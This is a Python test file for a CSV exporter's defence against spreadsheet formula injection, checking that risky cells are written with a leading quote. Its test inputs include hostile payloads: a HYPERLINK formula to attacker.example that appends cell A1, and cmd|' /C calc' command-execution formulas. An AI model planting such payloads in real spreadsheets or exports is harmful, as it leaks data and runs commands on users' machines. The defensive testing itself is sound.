"""CSV cells that a spreadsheet would run as formulas are written as text (OWASP: a leading single
quote). Cells come from document text, names and URLs: anyone who writes an article decides them."""
from __future__ import annotations

import csv
import io
import json

import pytest
from typer.testing import CliRunner

from claimgraph import views
from claimgraph.cli.main import app
from claimgraph.export.csv_export import CsvExporter, neutralise


@pytest.mark.parametrize("cell, written", [
    ("=HYPERLINK(\"http://attacker.example\",\"click\")", "'=HYPERLINK(\"http://attacker.example\",\"click\")"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Rebels said =1 was wrong", "Rebels said =1 was wrong"),
    ("", ""),
    (-4, -4),                      # numbers are numbers
    (None, None),
])
def test_neutralise(cell, written):
    assert neutralise(cell) == written


def test_export_writes_no_formula(tmp_path):
    db = tmp_path / "s.db"
    line = {"url": "=HYPERLINK(\"http://attacker.example/?\"&A1,\"source\")",
            "text": "@SUM(1+1) Gunmen killed four soldiers at a checkpoint near the border on Monday, "
                    "the army said.",
            "title": "=cmd|' /C calc'!A0"}
    source = tmp_path / "attack.jsonl"
    source.write_text(json.dumps(line) + "\n")
    runner = CliRunner()
    assert runner.invoke(app, ["ingest", str(source), "--db", str(db)]).exit_code == 0
    result = runner.invoke(app, ["export", "--format", "csv", "--db", str(db)])
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert len(rows) > 1
    cells = [cell for row in rows[1:] for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_the_exporter_neutralises_every_column():
    report = views.ExportReport(id="r1", doc="d1", start=0, end=5, text="=text", trigger="=t", killed=None,
                                injured=None, modality="=m", date=None, attributed_to="e1", source_text=None,
                                rules=())
    graph = views.ExportData(
        documents=(views.ExportDocument(id="d1", source="+src", title=None, url=None, outlet=None, author=None,
                                        published=None, published_origin=None, published_inferred=False),),
        entities=(views.ExportEntity(id="e1", name="=1+1", type="ORG", aliases=(), mentions=()),),
        events=(views.ExportEvent(id="-ev", type="@T", mode=None, date=None, date_precision=None, date_end=None,
                                  location="e1", actors=("e1",), targets=(), killed=-1, injured=None,
                                  modality="asserted", sources=1, reports=(report,)),),
        relations=(), contradictions=())
    stream = io.StringIO()
    CsvExporter().write(graph, stream)
    [_, row] = list(csv.reader(io.StringIO(stream.getvalue())))
    assert not any(cell.startswith(("=", "+", "@")) for cell in row)
    assert row[8] == "-1"
